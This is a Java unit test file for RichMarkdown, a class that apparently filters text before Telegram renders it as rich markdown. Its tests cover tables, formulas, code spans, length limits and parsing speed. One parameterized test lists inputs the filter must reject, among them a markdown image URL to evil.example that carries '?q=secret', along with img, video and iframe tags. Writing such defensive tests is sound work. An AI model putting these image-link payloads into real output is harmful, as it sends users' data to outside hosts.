package dev.rill.markup;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichMarkdownTest {
    private static final String TABLE = "| a | b |\n|---|---|\n| 1 | 2 |\n\n";

    @Test
    void takesATableAsItIs() {
        assertThat(RichMarkdown.of(TABLE + "and **bold** <b>words</b>")).contains(TABLE + "and **bold** <b>words</b>");
    }

    @Test
    void isNotAskedForByWhatEntitiesCanShow() {
        assertThat(RichMarkdown.of("# Title\n\nand **bold**, `code`, [link](https://example.org)"))
                .isEmpty();
    }

    @Test
    void writesFormulasTheWayTelegramKnows() {
        assertThat(RichMarkdown.of("so \\(x^2\\) is\n\\[y\\]")).contains("so $x^2$ is\n$$y$$");
    }

    @Test
    void leavesCodeAlone() {
        String code = "```html\n<img src=\"x\"> ![a](b) \\(x\\)\n```\nand `<img>` and ``\\[x\\] ` ![``";

        assertThat(RichMarkdown.of(TABLE + code)).contains(TABLE + code);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://evil.example/?q=secret)",
                "![][1]",
                "<img src='https://evil.example/'>",
                "<IMG\nsrc=x>",
                "<video src=x>",
                "<tg-thinking>",
                "</a>",
                "<a href='tg://user?id=1'>x</a>",
                "<!-- x -->",
                "`` ` ![a](b)",
                "```\ncode\n```\n![a](b)",
                "~~~\n```\n~~~\n<iframe>",
                "`a```![x](y)``",
                "`a\n- ![x](y) `",
                "`a\nb` ![x](y) `c`",
                "    ```\n![x](y)\n    ```",
                "\\(![x](y)\\)"
            })
    void isNotForWhatTelegramWouldFetchOrObey(String danger) {
        assertThat(RichMarkdown.of(TABLE + danger)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a < b", "1 <2", "x <= y", "<https://example.org>", "wow!"})
    void isForWhatOnlyLooksDangerous(String harmless) {
        assertThat(RichMarkdown.of(TABLE + harmless)).isPresent();
    }

    @Test
    void isNotForWhatIsTooLong() {
        assertThat(RichMarkdown.of(TABLE + "x".repeat(RichMarkdown.LIMIT))).isEmpty();
        assertThat(RichMarkdown.of(TABLE + "x".repeat(RichMarkdown.LIMIT - TABLE.length())))
                .isPresent();
    }

    @Test
    void isQuickWithLongTexts() {
        assertThat(RichMarkdown.of(TABLE + "` ".repeat(16_000))).isPresent();
        assertThat(RichMarkdown.of(TABLE + "``` x\n".repeat(5_000))).isPresent();
        assertThat(RichMarkdown.of(TABLE + "<b".repeat(16_000))).isPresent();
    }
}
